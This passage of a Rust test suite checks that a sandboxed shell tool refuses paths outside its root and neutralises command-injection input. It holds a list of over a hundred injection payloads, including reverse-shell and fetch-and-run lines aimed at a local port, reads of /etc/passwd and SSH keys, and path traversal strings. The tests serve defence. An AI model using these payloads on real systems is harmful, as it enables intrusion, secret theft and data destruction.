    assert_eq!(code.as_deref(), Some("argument_not_allowed"));
    drop(s);
    b.assert_contained(false);
}

#[test]
fn build_tool_flag_tricks() {
    let mut b = build_box();
    let mut s = shell(&b.root, "build-test");
    for (program, args, want) in BUILD_TOOL_FLAG_TRICKS {
        let argv = b.sub_all(args);
        let (code, out) = b.run(&mut s, program, &argv, None);
        assert_eq!(code.as_deref(), Some(want), "{program} {args:?}: {out}");
    }
    drop(s);
    b.assert_contained(true);
    b.assert_contained(false);
}

// ---------------------------------------------------------------------------------------------
// c. Paths
// ---------------------------------------------------------------------------------------------

#[test]
fn paths_outside_the_root_are_refused() {
    each(
        &PATH_CASES,
        |(p, a, c, _)| format!("{p} {} cwd={c:?}", a.join(" ")),
        |&(program, args, cwd, want)| {
            if !installed(program) {
                // A program the profile allows but the machine lacks is refused as
                // command_not_allowed before its operands are looked at, hiding what this checks.
                missing_prerequisite(&format!("`{program}` is not installed"));
                return;
            }
            let mut b = build_box();
            let argv = b.sub_all(args);
            let cwd = cwd.map(|c| b.sub(c));
            let mut s = shell(&b.root, "read-only");
            let (code, out) = b.run(&mut s, program, &argv, cwd.as_deref());
            assert_eq!(code.as_deref(), Some(want), "{program} {args:?} {cwd:?}: {out}");
            let mut a = json!({"program": program, "args": argv});
            if let Some(c) = &cwd {
                a["cwd"] = json!(c);
            }
            let (code, out) = b.call(&mut s, "start_process", a);
            assert_eq!(code.as_deref(), Some(want), "start_process {program} {args:?} {cwd:?}: {out}");
            drop(s);
            for text in &b.outputs {
                assert!(!text.contains("inside-root-dotenv-secret") && !text.contains("inside-root-key-secret"));
            }
            b.assert_contained(false);
        },
    );
}

// ---------------------------------------------------------------------------------------------
// d. Command-injection payloads
// ---------------------------------------------------------------------------------------------

const PAYLOADS: [&str; 114] = [
    ";id",
    ";id;",
    "; id",
    "|id",
    "| id",
    "||id",
    "|| id",
    "&id",
    "& id &",
    "&&id",
    "&& id",
    "a;id",
    "a|id",
    "a&&id",
    "a||id",
    "; touch {m}",
    "| touch {m}",
    "&& touch {m}",
    "|| touch {m};",
    "& touch {m} &",
    "$(id)",
    "`id`",
    "$(touch {m})",
    "`touch {m}`",
    "$(sleep 5)",
    "`sleep 5`",
    "$(sleep${IFS}5)",
    "; sleep 5",
    "| sleep 5 #",
    "&& sleep 5",
    "$((1+1))",
    "${PATH}",
    "$PATH",
    "${HOME}",
    "$0",
    "$$",
    "${PATH:0:1}bin",
    "$(cat /etc/passwd)",
    "`cat {outside}/sentinel.txt`",
    "$(<{outside}/sentinel.txt)",
    "<(touch {m})",
    ">(touch {m})",
    "${IFS}id",
    "$IFS$9id",
    ";touch${IFS}{m}",
    "{touch,{m}}",
    "cat${IFS}/etc/passwd",
    "\nid",
    "\nid\n",
    "\ntouch {m}",
    "\x0d\nid",
    "\x0dtouch {m}",
    "%0aid",
    "%0Atouch%20{m}",
    "%0d%0aid",
    "\\nid",
    "a\u{2028}id",
    "a\u{85}id",
    "\x0bid",
    "\x0cid",
    "> {m}",
    ">> {m}",
    ">| {m}",
    "2> {m}",
    "&> {m}",
    "< /etc/passwd",
    "<> {m}",
    "1>&2",
    "';touch {m};'",
    "\";touch {m};\"",
    "\\;touch {m}",
    "'$(id)'",
    "\"$(id)\"",
    "$'\\x3b'id",
    "$'\\ntouch {m}'",
    "&& curl http://127.0.0.1:9/x | sh",
    "; wget -qO- http://127.0.0.1:9/x | sh",
    "| nc -e /bin/sh 127.0.0.1 9",
    "; bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
    "|| python3 -c 'import os; os.system(\"id\")'",
    "*",
    "?",
    "[a-z]*",
    "**/*",
    ".*",
    "!!",
    "!-1",
    "~",
    "~root",
    "~/.ssh/id_rsa",
    "-e \\x41",
    "-n",
    "--help",
    "--version",
    "-rf /",
    "--",
    "-",
    "../../../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "\u{37e} touch {m}",
    "\u{ff1b} touch {m}",
    "\u{ff5c} touch {m}",
    "\u{ff04}(touch {m})",
    "\u{200b}touch {m}",
    "touch\u{a0}{m}",
    "\u{202e}id",
    "\u{feff}id",
    "\u{e9};id",
    "\u{1f4a5};id",
    "x\tid",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f",
    // "a" repeated 4 000 times is added by `payloads()`.
];

/// The corpus, with the one payload too long to write out.
fn payloads() -> Vec<String> {
    PAYLOADS.iter().map(|p| p.to_string()).chain(["a".repeat(4000)]).collect()
}

#[test]
fn injection_payloads() {
    let all = payloads();
    let indexed: Vec<(usize, &String)> = all.iter().enumerate().collect();
    each(
        &indexed,
        |(i, p)| format!("{i:03}-{:?}", p.chars().take(20).collect::<String>()),
        |&(_, payload)| {
            let mut b = build_box();
            let payload = b.sub(payload);
            let mut s = shell(&b.root, "read-only");
            // (i) echo: back verbatim, byte for byte.
            let t0 = std::time::Instant::now();
            let (code, out) = b.run(&mut s, "echo", &["BEGIN".into(), payload.clone(), "END".into()], None);
            assert!(code.is_none(), "{code:?} {out}");
            assert_eq!(out["stdout"], format!("BEGIN {payload} END\n"), "{out}");
            assert!(out["exit_code"] == 0 && out["stderr"] == "");
            // ls: refused, or an ls error about that exact name; never executed.
            let (code, out) = b.run(&mut s, "ls", std::slice::from_ref(&payload), None);
            match code.as_deref() {
                None if payload == "--" || payload == "-n" => {
                    assert_eq!(out["exit_code"], 0, "an allowed ls option, listing the cwd: {out}");
                }
                None => {
                    assert!(out["exit_code"] == 2 && out["stdout"] == "", "{out}");
                    let stderr = out["stderr"].as_str().unwrap();
                    assert!(stderr.contains("No such file") || stderr.contains("File name too long"), "{out}");
                }
                Some(c) => assert!(
                    ["argument_not_allowed", "path_outside_root", "denied_by_glob", "invalid_path"].contains(&c),
                    "{c} {out}"
                ),
            }
            // (ii) cwd: refused, or an existing directory inside the root.
            let (code, out) = b.call(&mut s, "run_command", json!({"program": "pwd", "cwd": payload}));
            match code.as_deref() {
                None => {
                    let here = std::fs::canonicalize(out["stdout"].as_str().unwrap().trim()).unwrap();
                    assert!(here.starts_with(&b.root), "{out}");
                }
                Some(c) => assert!(
                    [
                        "path_outside_root",
                        "not_found",
                        "invalid_path",
                        "not_a_directory",
                        "denied_by_glob",
                        "name_too_long"
                    ]
                    .contains(&c),
                    "{c} {out}"
                ),
            }
            // The payload as a program name.
            let (code, out) = b.call(&mut s, "run_command", json!({"program": payload, "args": []}));
            assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{code:?} {out}");
            let elapsed = t0.elapsed();
            assert!(elapsed < Duration::from_secs(3), "four calls took {elapsed:?}");
            drop(s);
            b.assert_contained(false);
        },
    );
}
